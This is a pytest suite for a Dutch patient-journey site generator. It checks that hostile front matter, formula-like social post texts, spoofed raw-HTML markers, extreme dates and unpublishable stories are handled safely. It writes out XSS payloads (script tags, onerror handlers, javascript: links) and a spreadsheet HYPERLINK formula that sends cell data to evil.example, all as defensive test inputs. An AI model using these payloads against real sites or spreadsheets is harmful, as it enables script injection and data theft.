"""Attacks on what the build writes: front matter that tries to become HTML or Markdown,
post texts that a spreadsheet would run, content that addresses the raw-HTML markers, dates
at the end of the calendar, and a build log that would quote a story that may not be shown.

Every test builds a real site (or runs `reisverhaal check`) and reads what came out with
real parsers: BeautifulSoup (html.parser and lxml), Python's csv module, JSON.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import date, datetime
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, Phase, assume, given, settings
from hypothesis import strategies as st

from browser import chromium, open_page, serve
from conftest import (
    EPOCH,
    SiteProject,
    build,
    consent_meta,
    line_of,
    tree_bytes,
)
from leaks import files_with, log_quoting, plant_story

PARSERS = ("html.parser", "html5lib")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BUFFER_HEADER = ["Text", "Image URL", "Tags", "Posting Time"]
SPACE = re.compile(r"[ \t\n\r\f\v]+")


def soup(html: str, parser: str = "html.parser") -> BeautifulSoup:
    return BeautifulSoup(html, parser)


def csv_rows(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def spaced(text: str) -> str:
    """Text as a browser shows it: runs of white space as one space."""
    return SPACE.sub(" ", text).strip()


def shown(element) -> str:
    """An element's text without the heading's permalink (¶)."""
    element = BeautifulSoup(str(element), "html.parser")
    for anchor in element.select("a.headerlink"):
        anchor.decompose()
    return spaced(element.get_text())


# Front matter is text ---------------------------------------------------------------------

PWN = '"><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
FRONT = {
    "journey": {
        "title": "Knie " + PWN,
        "summary": 'Een "nieuwe" knie, met *nadruk* en [een link](javascript:alert(1))',
        "image_alt": "Een knie](javascript:window.__pwned=3) " + PWN,
        "location": "<b>Utrecht</b> " + PWN,
        "cta": "Bel <b>ons</b> <img src=x onerror=alert(1)>",
    },
    "step": {
        "title": "Gesprek " + PWN,
        "summary": 'Een gesprek {: onclick="window.__pwned=4" } ' + PWN,
        "image_alt": "Een arts](javascript:window.__pwned=5)",
        "expect": "- een lijst\n\n# een kop\n\n<script>window.__pwned=6</script>",
        "prepare": "1. een\n\n!!! danger\n\n    ingesprongen <!-- reisverhaal:html 0 -->",
        "outcome": "| a | b |\n|---|---|\n| c | d |",
    },
    "story": {
        "title": "Wilma " + PWN,
        "person": "Wil<i>ma</i>",
        "quote": 'Ze zei: "</p><script>window.__pwned=7</script>',
        "summary": 'Wilma "fietst" weer ' + PWN,
        "image_alt": "Wilma](javascript:window.__pwned=8)",
    },
}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("html") / "project"
    channels = ["website", "newsletter", "facebook", "x"]
    project = SiteProject.small(root, channels=channels).illustrate()
    theme = {"name": "material", "language": "nl", "features": ["navigation.footer"]}
    project.write_config(theme=theme)  # previous/next links name their pages
    project.journey("knie", image="media/knie.jpg", **FRONT["journey"])
    project.step(
        "knie",
        "01-eerste-gesprek.md",
        story="wilma-fietst",
        image="media/gesprek.jpg",
        **FRONT["step"],
    )
    project.story(
        "wilma-fietst", image="wilma.jpg", consent=consent_meta(photo=True), **FRONT["story"]
    )
    (root / "docs/index.md").unlink()  # the generated home page lists journeys and stories
    return build(root)


def html_documents(site: Path):
    """Every HTML document of the site, with the previews inside iframes (`srcdoc`)."""
    for path in sorted(site.rglob("*.html")):
        html = path.read_text(encoding="utf-8")
        yield path.relative_to(site).as_posix(), html
        for frame in soup(html).select("iframe[srcdoc]"):
            yield f"{path.relative_to(site).as_posix()}#srcdoc", frame["srcdoc"]


def json_ld(element) -> bool:
    """A JSON-LD block whose text is whole JSON: data a browser does not run, which may hold
    a title as text (a `</script>` in it would have ended it, leaving broken JSON)."""
    if element.get("type") != "application/ld+json":
        return False
    try:
        json.loads(element.get_text())
    except ValueError:
        return False
    return True


def injected(html: str, parser: str) -> list[str]:
    """What front matter made of the document: scripts, event handlers, javascript: links,
    or the tags it spelled out."""
    found = []
    for element in soup(html, parser).find_all(True):
        text = element.get_text()
        if element.name == "script" and "__pwned" in text and not json_ld(element):
            found.append("script")
        if element.name in ("b", "i") or (element.name == "img" and element.get("src") == "x"):
            found.append(f"<{element.name}>")
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name.startswith("on") or value.strip().lower().startswith("javascript:"):
                found.append(f"{element.name}[{name}]")
    return found


def test_front_matter_never_becomes_html_in_any_page_or_preview(attacked):
    documents = dict(html_documents(attacked.site))
    assert {"trajecten/knie/index.html", "deelkit/knie/newsletter.html"} <= set(documents)
    assert any(name.endswith("#srcdoc") for name in documents)
    for parser in PARSERS:
        found = {name: injected(html, parser) for name, html in documents.items()}
        assert {name: what for name, what in found.items() if what} == {}, parser


@pytest.mark.parametrize("parser", PARSERS)
def test_front_matter_reads_exactly_as_written_wherever_it_goes(attacked, parser):
    journey, step, story = FRONT["journey"], FRONT["step"], FRONT["story"]
    pages = {
        "journey": (attacked.page("trajecten/knie/"), journey),
        "step": (attacked.page("trajecten/knie/eerste-gesprek/"), step),
        "story": (attacked.page("verhalen/wilma-fietst/"), story),
    }
    for html, meta in pages.values():
        page = soup(html, parser)
        assert shown(page.select_one("article h1")) == spaced(meta["title"])
        assert page.title.get_text() == f"{meta['title']} - Zorggroep Test"
        assert page.select_one('meta[name="description"]')["content"] == meta["summary"]
        assert spaced(page.select_one("article .rv-lead").get_text()) == spaced(meta["summary"])
        assert [img["alt"] for img in page.select("article img")] == [meta["image_alt"]]
        nav = [shown(a) for a in page.select("nav.md-nav--primary .md-nav__link")]
        assert spaced(journey["title"]) in nav and spaced(story["title"]) in nav
    # Material's previous/next links name their page in an aria-label, escaped by the theme:
    # what a screen reader says is the title as written, not its character references.
    labels = {
        a["aria-label"].split(": ", 1)[1]: shown(a.select_one(".md-footer__title .md-ellipsis"))
        for html, _ in pages.values()
        for a in soup(html, parser).select("a.md-footer__link[aria-label]")
    }
    assert spaced(step["title"]) in labels
    assert all(spaced(label) == title for label, title in labels.items()), labels
    step_page = soup(pages["step"][0], parser)
    boxes = [shown(box) for box in step_page.select("article .admonition")]
    for key, label in (
        ("expect", "Wat kun je verwachten?"),
        ("prepare", "Hoe bereid"),
        ("outcome", "Wat levert het op?"),
    ):
        assert any(box.startswith(label) and spaced(step[key]) in box for box in boxes), key
    assert shown(step_page.select_one(".rv-quote blockquote")) == f"“{spaced(story['quote'])}”"
    assert shown(step_page.select_one(".rv-crumb a")) == spaced(journey["title"])
    facts = shown(soup(pages["journey"][0], parser).select_one(".rv-facts"))
    assert spaced(journey["location"]) in facts
    story_page = soup(pages["story"][0], parser)
    assert shown(story_page.select_one(".rv-quote figcaption")).startswith(story["person"])

    kit = soup(attacked.page("deelkit/knie/"), parser)
    assert shown(kit.select_one("article h1")) == spaced(f"Deelkit: {journey['title']}")
    assert spaced(step["title"]) in [shown(h2)[3:] for h2 in kit.select("article h2")]
    letter = soup((attacked.site / "deelkit/knie/newsletter.html").read_text("utf-8"), parser)
    assert spaced(journey["title"]) in [shown(h2) for h2 in letter.select("h2")]
    assert journey["image_alt"] in [img.get("alt") for img in letter.select("img")]
    for overview in ("", "trajecten/", "verhalen/", "themas/zelfstandig-thuis/"):
        text = shown(soup(attacked.page(overview), parser).select_one("article"))
        assert spaced(journey["title"]) in text or spaced(story["title"]) in text, overview


def test_the_search_index_holds_front_matter_as_escaped_text(attacked):
    index = json.loads((attacked.site / "search/search_index.json").read_text("utf-8"))
    titles = {doc["location"]: doc["title"] for doc in index["docs"]}
    for location, title in (
        ("trajecten/knie/", FRONT["journey"]["title"]),
        ("trajecten/knie/eerste-gesprek/", FRONT["step"]["title"]),
        ("verhalen/wilma-fietst/", FRONT["story"]["title"]),
    ):
        for parser in PARSERS:
            parsed = soup(titles[location], parser)
            made = [e for e in parsed.find_all(True) if e.name not in ("html", "head", "body")]
            assert parsed.get_text() == title and not made, (location, parser)
    for doc in index["docs"]:
        assert not injected(doc["text"], "html.parser"), doc["location"]


def test_no_front_matter_runs_in_the_browser(attacked):
    pages = [
        "",
        "trajecten/knie/",
        "trajecten/knie/eerste-gesprek/",
        "verhalen/wilma-fietst/",
        "deelkit/knie/",
        "deelkit/knie/newsletter.html",
        "deelkit/kalender/",
    ]
    with chromium() as browser, serve(attacked.site) as base_url:
        for uri in pages:
            page = open_page(browser, base_url + uri)
            page.wait_for_load_state("load")
            assert page.evaluate("typeof window.__pwned") == "undefined", uri
            page.close()
        page = open_page(browser, base_url + "trajecten/knie/")
        page.wait_for_load_state("load")
        page.focus("input.md-search__input")
        page.keyboard.type("Knie")  # the results show titles and texts from the index as HTML
        page.wait_for_selector(".md-search-result__item", timeout=15000)
        assert spaced(FRONT["journey"]["title"]) in page.inner_text(".md-search-result")
        assert page.evaluate("typeof window.__pwned") == "undefined"


# CSV formula injection ------------------------------------------------------------------

FORMULAS = {
    "facebook": '=HYPERLINK("https://evil.example/?x="&A1;"Klik hier")',
    "linkedin": "+31 6 maar dan als som",
    "x": "-1+1 is nul, zegt de rekenmachine",
    "instagram": "@SUM(1+1) klinkt als een naam",
}


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("formula") / "project"
    channels = ["website", "facebook", "linkedin", "x", "instagram"]
    project = SiteProject.small(root, channels=channels)
    project.step(
        "knie",
        "02-operatie.md",
        title="De operatie",
        phase="during",
        when="0d",
        summary="Op de dag van de operatie krijg je een nieuwe knie.",
        posts={platform: {"text": text} for platform, text in FORMULAS.items()},
    )
    return build(root)


def test_post_texts_that_look_like_formulas_are_neutralised_in_every_scheduling_csv(
    formula_site,
):
    exports = sorted((formula_site.site / "deelkit").glob("*.csv"))
    assert {path.name.split("-")[0] for path in exports} == {"buffer", "hootsuite"}
    seen = set()
    for path in exports:
        table = csv_rows(path)
        buffer = path.name.startswith("buffer-")
        if buffer:
            assert table[0] == BUFFER_HEADER
            assert path.read_bytes().startswith(b"Text,Image URL,Tags,Posting Time\r\n")
            table = table[1:]
        for row in table:
            assert len(row) == (4 if buffer else 3)
            if buffer:
                datetime.strptime(row[3], "%Y-%m-%d %H:%M")
            else:
                datetime.strptime(row[0], "%d/%m/%Y %H:%M")
            assert not [cell for cell in row if cell.startswith(FORMULA_START)], (path, row)
            text = row[0] if buffer else row[1]
            for formula in FORMULAS.values():
                if text.startswith("'" + formula[:12]):
                    seen.add(formula)
    assert seen == set(FORMULAS.values())


# Raw-HTML markers ------------------------------------------------------------------------


def test_content_cannot_address_the_raw_html_markers(tmp_path):
    project = SiteProject.small(tmp_path / "project")
    body = (
        "Je praat met de arts.\n\n<!-- reisverhaal:html 99 -->\n\n"
        "<!-- reisverhaal:html 0 -->\n\nEn dan ga je naar huis.\n"
    )
    project.step("knie", "01-eerste-gesprek.md", body=body, story="wilma-fietst")
    first = build(project.root)
    for parser in PARSERS:
        page = soup(first.page("trajecten/knie/eerste-gesprek/"), parser)
        assert len(page.select("p.rv-crumb")) == 1
        assert len(page.select("nav.rv-stepnav")) == 1
        assert "En dan ga je naar huis." in page.get_text()
    before = tree_bytes(first.site)
    (project.root / ".cache").rename(project.root / "oude-cache")
    again = build(project.root, site_dir=project.root / "site2")
    assert tree_bytes(again.site) == before


# The end of the calendar ------------------------------------------------------------------


def test_a_post_past_the_end_of_the_calendar_is_a_located_error_and_the_rest_builds(tmp_path):
    project = SiteProject.small(tmp_path / "project")
    project.journey("ver", title="Heel ver weg", date=datetime(9999, 12, 30, 9, 0))
    step = project.step("ver", "01-later.md", title="Later", when="+2w")
    built = build(project.root)
    errors = [text for text in built.logged("ERROR") if "01-later.md" in text]
    assert errors and all("snippet.schedule" in text for text in errors)
    assert f"journeys/ver/01-later.md:{line_of(step, 'when:')}" in errors[0]
    assert "9999-12-30" in errors[0] and "buiten de dagen" in errors[0]
    assert "Traceback" not in "\n".join(built.logged())
    assert (built.site / "trajecten/ver/later/index.html").is_file()
    assert (built.site / "trajecten/knie/eerste-gesprek/index.html").is_file()
    assert (built.site / "deelkit/kalender/index.html").is_file()


@pytest.mark.parametrize(
    ("epoch", "said"),
    [("253402214399", "2106-02-07"), ("morgen", "geen aantal seconden")],
)
def test_an_unusable_source_date_epoch_is_said_and_the_site_builds(tmp_path, epoch, said):
    """MkDocs reads SOURCE_DATE_EPOCH too (sitemap.xml.gz holds four bytes of it), so the
    build says what is wrong and puts a value both can use in its place."""
    project = SiteProject.small(tmp_path / "project")
    project.journey("knie", repeat="yearly")
    built = build(project.root, epoch=epoch)
    warned = [text for text in built.logged("WARNING") if "SOURCE_DATE_EPOCH" in text]
    assert warned and epoch in warned[0] and said in warned[0]
    assert (built.site / "trajecten/knie/eerste-gesprek/index.html").is_file()
    assert (built.site / "deelkit/calendar.ics").is_file()
    assert (built.site / "sitemap.xml.gz").is_file()


# Any text at all ------------------------------------------------------------------------

MARKUP = ["<", ">", "&", '"', "'", "`", "*", "_", "[", "](", ")", "{:", "}", "#", "!", "|", "\\"]
MARKUP += [":smile:", "-->", "<!--", "&amp;", "<b>", "</p>", "\n", "\n\n", "\t", "1. ", "- "]
TEXT = st.lists(
    st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")) | st.sampled_from(MARKUP),
    min_size=1,
    max_size=25,
).map("".join)


def write_texts(project: SiteProject, title: str, summary: str, alt: str, quote: str) -> None:
    project.step(
        "knie",
        "01-eerste-gesprek.md",
        story="wilma-fietst",
        image="media/gesprek.jpg",
        title=title,
        summary=summary,
        image_alt=alt,
    )
    project.story(
        "wilma-fietst",
        image="wilma.jpg",
        consent=consent_meta(photo=True),
        title=title,
        summary=summary,
        image_alt=alt,
        quote=quote,
    )


def shape(element) -> list[tuple]:
    """The elements and attribute names under `element`: what text must never change."""
    return [(e.name, tuple(sorted(e.attrs))) for e in element.find_all(True)]


PAGES = ("trajecten/knie/eerste-gesprek/", "verhalen/wilma-fietst/")


@pytest.fixture(scope="module")
def any_text_site(tmp_path_factory):
    """The small site, and the shape of its step and story page with plain words."""
    root = tmp_path_factory.mktemp("any-text") / "project"
    project = SiteProject.small(root, channels=["website"]).illustrate()
    write_texts(project, "Gewoon", "Gewoon", "Gewoon", "Gewoon")
    plain = build(root)
    shapes = {(uri, p): shape(soup(plain.page(uri), p).article) for uri in PAGES for p in PARSERS}
    return project, shapes


@settings(
    max_examples=12,
    deadline=None,
    phases=[Phase.explicit, Phase.reuse, Phase.generate],  # each example is a whole build
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(title=TEXT, summary=TEXT, alt=TEXT, quote=TEXT)
def test_any_front_matter_text_appears_as_written_and_makes_no_markup(
    any_text_site, title, summary, alt, quote
):
    """Whatever an editor writes in a title, summary, alt text or quote, the page shows it
    as written (white space as a browser shows it) and has the same elements and attributes
    as with plain words."""
    project, shapes = any_text_site
    texts = [title, summary, alt, quote]
    assume(all(text.strip() for text in texts))
    write_texts(project, *texts)
    built = build(project.root)
    title, summary, alt, quote = (text.strip() for text in texts)
    for uri in PAGES:
        for parser in PARSERS:
            page = soup(built.page(uri), parser)
            assert shape(page.article) == shapes[uri, parser], (uri, parser)
            assert shown(page.select_one("article h1")) == spaced(title)
            assert spaced(page.title.get_text()) == spaced(f"{title} - Zorggroep Test")
            description = page.select_one('meta[name="description"]')["content"]
            assert spaced(description) == spaced(summary)
            assert spaced(page.select_one("article .rv-lead").get_text()) == spaced(summary)
            assert [spaced(img["alt"]) for img in page.select("article img")] == [spaced(alt)]
            assert spaced(quote) in shown(page.select_one("article .rv-quote blockquote"))


# The build log never quotes a story that may not be published --------------------------

SECRET = "Qzorvak"
"""The made-up word in every text of the planted story (`leaks.plant_story`)."""
LONG_BODY = (
    "\nHenk {word} woont sinds het voorjaar van vorig jaar samen met zijn dochter en haar twee "
    "katten in een kleine flat aan de rand van de stad vlak bij het ziekenhuis.\n\n"
    "Na de artroscopie werd hem door de verpleegkundige intraveneus een middel tegen de pijn "
    "gegeven, want {word} kon die nacht helemaal niet slapen.\n"
)
NOWHERE = {
    "withdrawn": {"withdrawn": date(2026, 12, 1)},
    "expired": {"given": date(2024, 6, 1), "expires": date(2027, 1, 1)},
    "not yet given": {"given": date(2027, 6, 1)},
    "no channel of the site": {"channels": ["tiktok"]},
}


def planted(root: Path, **consent) -> SiteProject:
    """The small site with a story whose every text, and a body of long sentences full of
    jargon, carries `SECRET`."""
    project = SiteProject.small(root)
    plant_story(project, "henk", SECRET, **consent)
    path = project.root / "stories/henk/index.md"
    path.write_text(path.read_text("utf-8") + LONG_BODY.format(word=SECRET), encoding="utf-8")
    return project


def check_output(root: Path, output: str) -> subprocess.CompletedProcess:
    """`reisverhaal check --format OUTPUT`, as a separate process on the tests' "today"."""
    env = {**os.environ, "SOURCE_DATE_EPOCH": str(EPOCH), "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run(
        [sys.executable, "-m", "reisverhaal.cli", "check", "--format", output],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_the_planted_story_is_quoted_when_it_may_be_published(tmp_path):
    """The control: with valid consent the tone findings quote the story's sentences, so the
    tests below would see a quote if one were made."""
    built = build(planted(tmp_path / "project").root)
    assert [text for text in log_quoting(built.messages, SECRET) if "tone." in text]


@pytest.mark.parametrize("consent", NOWHERE.values(), ids=NOWHERE.keys())
def test_a_story_published_nowhere_is_named_by_file_and_line_but_never_quoted(tmp_path, consent):
    project = planted(tmp_path / "project", **consent)
    built = build(project.root)
    assert log_quoting(built.messages, SECRET) == []
    assert files_with(built.site, SECRET) == []
    located = [t for t in built.logged() if re.match(r"stories/henk/index\.md:\d+: ", t)]
    assert [t for t in located if "(tone." in t and "Schrijfadvies" in t], built.logged()

    text = check_output(project.root, "text")
    assert "Traceback" not in text.stderr
    assert SECRET.lower() not in (text.stdout + text.stderr).lower()
    result = check_output(project.root, "json")
    assert SECRET.lower() not in (result.stdout + result.stderr).lower()
    findings = json.loads(result.stdout)["findings"]
    about = [f for f in findings if f["path"] == "stories/henk/index.md"]
    assert [f for f in about if f["rule"].startswith("tone.") and f["line"]], about
    assert [f for f in about if f["rule"].startswith("consent.")], about
